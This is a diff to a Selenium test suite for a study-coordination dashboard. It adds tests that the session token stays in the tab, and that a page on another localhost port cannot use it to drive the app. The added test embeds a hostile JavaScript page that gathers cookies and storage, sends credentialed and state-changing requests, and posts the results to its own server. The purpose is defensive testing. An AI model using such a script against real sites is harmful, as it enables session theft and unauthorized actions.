@@ -16,6 +16,7 @@ from urllib.parse import urlparse
 sys.dont_write_bytecode = True
 sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
 from deployed import PATIENCE, DeployedTest
+from pages import Neighbour, Page, pieces
 
 try:
     from selenium import webdriver
@@ -39,6 +40,7 @@ class BrowserTest(DeployedTest):
         for word in ("--headless=new", "--no-sandbox", "--disable-dev-shm-usage", "--disable-gpu", "--window-size=1000,1200",
                      f"--user-data-dir={self.path / 'browser'}"):
             options.add_argument(word)
+        options.add_experimental_option("prefs", {"download.default_directory": str(self.path / "kept")})
         options.set_capability("goog:loggingPrefs", {"browser": "ALL", "performance": "ALL"})
         self.browser = webdriver.Chrome(service=Service(shutil.which("chromedriver")), options=options)
         self.addCleanup(self.browser.quit)
@@ -80,6 +82,22 @@ class BrowserTest(DeployedTest):
                 self.assertEqual((address.scheme, address.hostname), ("http", "127.0.0.1"), line)
                 asked += 1
         self.assertGreater(asked, 5)
+
+    def check_token_kept_to_the_tab(self):
+        """The session outlives a reload; its token is in no cookie and no address, and another tab has to log in itself."""
+        token = self.browser.execute_script("return sessionStorage.getItem('tacit.token')")
+        self.assertRegex(token, r"^[0-9a-f]{64}$")
+        self.browser.refresh()
+        self.wait_text("Download the model")
+        self.assertEqual(self.browser.get_cookies(), [])
+        self.assertNotIn(token, self.browser.execute_script(
+            "return JSON.stringify([location.href, performance.getEntries().map(one => one.name), document.documentElement.outerHTML])"))
+        here, address = self.browser.current_window_handle, self.browser.current_url
+        self.browser.switch_to.new_window("tab")
+        self.browser.get(address)
+        self.one("#credential")
+        self.browser.close()
+        self.browser.switch_to.window(here)
 
     def check_narrow(self):
         """On a phone nothing sticks out but tables, which scroll by themselves."""
@@ -131,8 +149,13 @@ class Pages(BrowserTest):
         self.keep("dashboard-dark")
         self.check_narrow()
         self.keep("dashboard-phone")
+        self.press("#download")
+        kept = self.path / "kept" / "trial.model.json"
+        self.wait(lambda: kept.read_bytes() == (self.folder / "trial.model.json").read_bytes(), "no model was kept")
+        self.check_token_kept_to_the_tab()
         self.press("#logout")
         self.wait_text("Log in")
+        self.assertEqual(self.browser.execute_script("return [sessionStorage.length, localStorage.length]"), [0, 0])
         self.browser.refresh()
         self.one("#credential").send_keys(coordinator.wait_line(r"credential, shown this once: (\S+)").group(1), Keys.ENTER)
         self.wait_text("Download the model")
@@ -215,6 +238,75 @@ class Pages(BrowserTest):
         self.one(".chart canvas")
         self.keep("party-page")
         self.check_quiet()
+
+
+# What a hostile page on another port of this machine can do in the same browser: ask the victim's port with whatever the browser adds,
+# open it, and tell its own server what came back.
+HOSTILE = """<!doctype html><title>other</title><script>
+const victim = "VICTIM";
+const tell = body => fetch("/told", { method: "POST", body: JSON.stringify(body) });
+const ask = (path, how) => fetch(victim + path, { credentials: "include", ...how }).then(reply => reply.text(), String);
+(async () => {
+  const told = [document.cookie, Object.entries(sessionStorage), Object.entries(localStorage)];
+  for (const path of ["/v1/session", "/v1/studies", "/v1/events"]) told.push(await ask(path));
+  for (const path of ["CHANGE", "/v1/session"]) {
+    told.push(await ask(path, { method: "POST", mode: "no-cors" }));
+    told.push(await ask(path, { method: "POST", headers: { Authorization: "Bearer " } }));
+  }
+  const opened = window.open(victim);
+  try { told.push(Object.entries(opened.sessionStorage)); } catch (problem) { told.push(String(problem)); }
+  await tell(told);
+  await fetch("/done");
+})();
+</script>"""
+
+
+class OtherPort(BrowserTest):
+    """Cookies ignore ports, so the browser hands those of one port of a host to a listener on any other."""
+
+    def heard_next_door(self, page, change):
+        """What a program on another port gets of a browser that is logged in."""
+        html = HOSTILE.replace("VICTIM", f"http://127.0.0.1:{page.port}").replace("CHANGE", change)
+        neighbour = Neighbour(html)
+        self.addCleanup(neighbour.close)
+        self.browser.switch_to.new_window("tab")
+        self.browser.get(neighbour.address)
+        heard = neighbour.wait("/done")
+        self.assertIn("/told", [one["path"] for one in heard])
+        return heard
+
+    def check_worthless(self, page, heard, path, change):
+        """Nothing that was heard, however it is presented, opens or changes anything."""
+        cookies = "; ".join(value for one in heard for name, value in one["headers"] if name.lower() == "cookie")
+        self.assertEqual(page.ask("GET", path, Cookie=cookies)[0], 401, "the cookies that the other port was sent open the page")
+        for piece in pieces(heard) | {""}:
+            for headers in ({"Authorization": f"Bearer {piece}"}, {"Cookie": f"tacit_{page.port}={piece}"}):
+                self.assertEqual(page.ask("GET", path, **headers)[0], 401, headers)
+                self.assertIn(page.ask("POST", change, **headers)[0], (401, 403), headers)
+
+    def test_a_listener_on_another_port_cannot_drive_the_dashboard(self):
+        self.study(title="Who falls ill")
+        coordinator = self.coordinator("--dashboard", "0")
+        self.browser.get(coordinator.wait_line(LINK).group(1))
+        self.wait_text("recruiting")
+        page = Page(coordinator)
+        heard = self.heard_next_door(page, "/v1/studies/trial/pause")
+        self.check_worthless(page, heard, "/v1/studies", "/v1/studies/trial/pause")
+        self.assertEqual(self.status()["state"], "recruiting")
+
+    def test_a_listener_on_another_port_cannot_withdraw_or_consent(self):
+        self.study(title="Who falls ill")
+        self.coordinator()
+        self.join(0)
+        process = self.start("page", home=self.home(0))
+        self.browser.get(process.wait_line(LINK).group(1))
+        self.wait_text("consent given")
+        page, change = Page(process), "/v1/party/studies/trial/withdraw"
+        heard = self.heard_next_door(page, change)
+        self.check_worthless(page, heard, "/v1/party/studies", change)
+        self.browser.switch_to.window(self.browser.window_handles[0])
+        self.browser.refresh()  # the session outlives a reload of its own tab
+        self.wait_text("consent given")
 
 
 if __name__ == "__main__":
